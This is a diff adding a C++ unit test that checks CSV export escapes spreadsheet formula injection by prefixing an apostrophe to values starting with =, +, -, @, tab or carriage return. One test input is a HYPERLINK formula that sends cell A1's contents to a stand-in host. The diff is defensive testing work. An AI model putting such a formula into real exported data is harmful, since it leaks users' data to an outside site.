@@ -112,4 +112,17 @@ TEST_SUITE("CSV (RFC 4180)") {
         CHECK(cehours::csv_field("《\"新\"课程》") == "\"《\"\"新\"\"课程》\"");
         CHECK(cehours::csv_field("a\nb") == "\"a\nb\"");
     }
+
+    TEST_CASE("typed text that a spreadsheet would run as a formula gets a leading apostrophe, and nothing else changes") {
+        CHECK(cehours::csv_typed_field("=1+1") == "'=1+1");
+        CHECK(cehours::csv_typed_field("+1+2") == "'+1+2");
+        CHECK(cehours::csv_typed_field("-2") == "'-2");
+        CHECK(cehours::csv_typed_field("@SUM(1)") == "'@SUM(1)");
+        CHECK(cehours::csv_typed_field("\t=1") == "'\t=1");
+        CHECK(cehours::csv_typed_field("\r=1") == "\"'\r=1\"");
+        CHECK(cehours::csv_typed_field("=HYPERLINK(\"http://x.example/?\"&A1;\"点我\")") == "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1;\"\"点我\"\")\"");
+        CHECK(cehours::csv_typed_field("张三 =1") == "张三 =1");
+        CHECK(cehours::csv_typed_field("") == "");
+        CHECK(cehours::csv_typed_field("欧阳, 娜娜") == "\"欧阳, 娜娜\"");
+    }
 }
